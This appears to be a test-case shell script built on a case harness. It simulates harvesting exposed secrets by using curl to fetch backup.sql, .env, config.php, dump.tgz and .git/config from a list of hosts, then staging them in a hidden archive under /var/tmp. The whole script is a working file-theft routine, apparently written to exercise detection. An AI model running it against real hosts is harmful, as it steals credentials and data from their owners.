#!/bin/sh
. /opt/case/case.sh

for h in 10.77.0.1 203.0.113.71 203.0.113.72 203.0.113.73; do mkdir -p /var/tmp/.st/$h; for f in backup.sql .env config.php dump.tgz .git/config; do curl -sf -m 2 -o "/var/tmp/.st/$h/$(basename $f)" "http://$h/$f"; done; done
tar -czf /var/tmp/.all.tgz -C /var/tmp .st; test -s /var/tmp/.all.tgz
took_place
